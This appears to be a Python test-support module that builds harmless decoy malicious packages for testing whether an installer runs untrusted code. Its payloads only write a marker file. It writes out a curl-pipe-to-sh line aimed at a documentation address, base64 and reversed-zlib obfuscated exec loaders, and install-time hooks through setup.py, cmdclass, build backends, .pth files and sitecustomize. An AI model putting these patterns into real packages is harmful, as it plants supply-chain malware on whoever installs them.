"""Harmless stand-ins for real attacks: each looks like the real thing and only ever writes a marker file.

The marker's path is baked into the code, so that a test can tell whether the code ran.
Nothing here reaches a network: 192.0.2.1 is a documentation address.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.support import backends
from tests.support.packages import About, Built, import_name, module, sdist, setup_files, wheel

Payload = Callable[[Path], str]


def spawn_shell(marker: Path) -> str:
    """Recon through a shell, written aside."""
    return f'import subprocess\nsubprocess.run(["sh", "-c", "id > {marker}"], check=False)\n'


def download_and_run(marker: Path) -> str:
    return f'import os\nos.system("curl -s --connect-timeout 0.1 -m 0.3 http://192.0.2.1/x | sh; touch {marker}")\n'


def decode_then_exec(marker: Path) -> str:
    hidden = base64.b64encode(f"open({str(marker)!r}, 'w').write('ran')".encode()).decode()
    return f'import base64\nexec(base64.b64decode("{hidden}").decode())\n'


def inflate_then_exec(marker: Path) -> str:
    """The lambda of real families: reversed base64 of zlib."""
    hidden = base64.b64encode(zlib.compress(f"open({str(marker)!r}, 'w').write('ran')".encode())).decode()[::-1]
    return f"_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)('{hidden}'))\n"


def as_one_line(payload: str) -> str:
    """The payload as a `.pth` line that the interpreter executes at every start."""
    return "; ".join(line for line in payload.splitlines() if line) + "\n"


def setup_sdist(
    name: str,
    payload: str,
    version: str = "1.0",
    *,
    static: bool | None = True,
    suffix: str = ".tar.gz",
    about: About | None = None,
) -> Built:
    """Its setup.py runs the payload at module level."""
    return sdist(
        name, version, setup_files(name, version, before=payload, about=about), about, static=static, suffix=suffix
    )


def cmdclass_sdist(name: str, payload: str, version: str = "1.0") -> Built:
    """Its setup.py runs the payload only when a command runs."""
    body = "\n".join(f"        {line}" for line in payload.splitlines())
    commands = (
        "from setuptools.command.egg_info import egg_info\nfrom setuptools.command.install import install\n\n"
        f"class Info(egg_info):\n    def run(self):\n{body}\n        super().run()\n\n"
        f"class Install(install):\n    def run(self):\n{body}\n        super().run()\n"
    )
    return sdist(
        name,
        version,
        setup_files(name, version, before=commands, arguments="cmdclass={'egg_info': Info, 'install': Install}"),
    )


def backend_sdist(
    name: str, payload: str, version: str = "1.0", *, static: bool | None = True, about: About | None = None
) -> Built:
    """Its own build backend, inside its tree, runs the payload."""
    return backends.tree_sdist(name, version, prelude=payload, static=static, about=about)


def import_wheel(name: str, payload: str, version: str = "1.0", about: About | None = None) -> Built:
    """The payload runs when somebody imports the package."""
    return wheel(name, version, {f"{import_name(name)}/__init__.py": payload}, about)


def pth_wheel(name: str, payload: str, version: str = "1.0") -> Built:
    """The payload runs at every start of the interpreter."""
    return wheel(name, version, {**module(name, version), f"{import_name(name)}-init.pth": as_one_line(payload)})


def startup_wheel(name: str, payload: str, version: str = "1.0") -> Built:
    """A sitecustomize module rides along."""
    return wheel(name, version, {**module(name, version), "sitecustomize.py": payload})


def build_requirement_module(name: str, payload: str, version: str = "1.0") -> Built:
    """A backend from the index whose module runs the payload when a build imports it."""
    return backends.backend_wheel(name, version, prelude=payload)


def build_requirement_pth(name: str, payload: str, version: str = "1.0") -> Built:
    """A working backend from the index with a `.pth` file beside it."""
    return backends.backend_wheel(name, version, more={f"{import_name(name)}-init.pth": as_one_line(payload)})
